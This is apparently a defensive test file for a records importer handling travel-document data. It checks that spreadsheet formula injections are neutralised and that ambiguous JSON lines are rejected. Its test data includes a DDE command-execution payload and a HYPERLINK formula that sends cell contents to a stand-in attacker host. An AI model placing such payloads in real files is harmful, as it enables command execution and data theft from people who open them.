"""Attack: a cell that a spreadsheet runs, and a line that two programs read as two things.

Whatever is imported can be exported, opened by anybody, and imported again: nothing in it begins
like a formula, and every number and every text comes back as it was.
"""

import csv
import dataclasses
import io
import json
from collections.abc import Mapping
from datetime import date
from typing import Final

import pytest
from hypothesis import given

from liaison.records import csvfile, recordfile
from liaison.records.fields import FORMULA
from liaison.records.states import RecordKind
from liaison.records.types import DocumentFields, ParsedRow, Reject
from tests.records.strategies import documents

TODAY: Final = date(2026, 3, 2)
HEAD: Final = "number,issuing_state,document_type,fraud,additional_information\r\n"
RUN: Final[Mapping[str, str]] = {
    "a sum": "=1+1",
    "a program": "=cmd|' /C calc'!A0",
    "a link that carries the sheet away": '=HYPERLINK(""http://evil.example?""&A1)',
    "a plus": "+1",
    "a minus": "-1+1|x",
    "an at": "@SUM(A1)",
    "a tab before": "\t=1+1",
    "a line end before": "\r=1+1",
    "a space before": " =1+1",
    "a hard space before": "\u00a0=1+1",
    "a mark nobody sees before": "\u200b=1+1",
    "a wide sum": "\uff1d1+1",
    "a wide plus": "\uff0b1",
    "a wide minus": "\uff0d1",
    "a wide at": "\uff20A1",
}


def cells_of(text: str) -> list[str]:
    """Return the cells of a file of one line, without its header."""
    _head, line = csv.reader(io.StringIO(text, newline=""))
    return line


@pytest.mark.parametrize("said", RUN.values(), ids=RUN)
def test_what_a_spreadsheet_runs_comes_neither_in_nor_out(said: str) -> None:
    """It is refused where it comes in; in the file of what was refused it is text."""
    quoted = said if said.startswith("=HYPER") else said.replace('"', '""')
    file = io.BytesIO(f'{HEAD}LX1000001,CHN,passport,stolen,"{quoted}"\r\n'.encode())
    (found,) = csvfile.read(file, today=TODAY)
    if isinstance(found, Reject):
        out = io.StringIO(newline="")
        csvfile.write_rejects(out, [found])
    else:
        out = io.StringIO(newline="")
        csvfile.write_documents(out, [found.fields])
    assert not any(cell.strip().startswith(FORMULA) for cell in cells_of(out.getvalue()))


@given(documents())
def test_every_document_comes_back_as_it_was_and_runs_nowhere(drawn: DocumentFields) -> None:
    # a review that is over would have to be justified again
    said = dataclasses.replace(drawn, review_on=None)
    out = io.StringIO(newline="")
    csvfile.write_documents(out, [said])
    assert not any(cell.startswith(FORMULA) for cell in cells_of(out.getvalue()))
    (found,) = csvfile.read(io.BytesIO(out.getvalue().encode()), today=date(2199, 12, 31))
    assert isinstance(found, ParsedRow)
    assert found.fields.number == said.number
    assert found.fields.additional_information == said.additional_information


GOOD: Final = {
    "number": "LX1000001",
    "issuing_state": "CHN",
    "document_type": "passport",
    "fraud": "stolen",
}
TWO_READINGS: Final[Mapping[str, str]] = {
    "a name twice": json.dumps(GOOD)[:-1] + ', "number": "LX1000002"}',
    "a name twice, once with escapes": json.dumps(GOOD)[:-1] + ', "\\u006eumber": "LX1000002"}',
    "no number": json.dumps(GOOD)[:-1] + ', "year": NaN}',
    "without end": json.dumps(GOOD)[:-1] + ', "year": -Infinity}',
    "thousands of digits": json.dumps(GOOD)[:-1] + f', "year": {"1" * 5_000}}}',
    "too deep": '{"number":' + "[" * 12_000 + "]" * 12_000 + "}",
    "two objects": json.dumps(GOOD) * 2,
    "half a character": json.dumps({**GOOD, "number": "\ud800"}),
    "nothing to the eye": json.dumps({**GOOD, "number": "LX1000\u200b001\u202e"}),
}


@pytest.mark.parametrize("line", TWO_READINGS.values(), ids=TWO_READINGS)
def test_a_line_that_can_be_read_in_two_ways_is_not_taken(line: str) -> None:
    file = io.BytesIO(line.encode() + b"\n")
    kind = RecordKind.TRAVEL_DOCUMENT
    (found,) = recordfile.read(file, kind, json_lines=True, today=TODAY)
    assert isinstance(found, Reject)
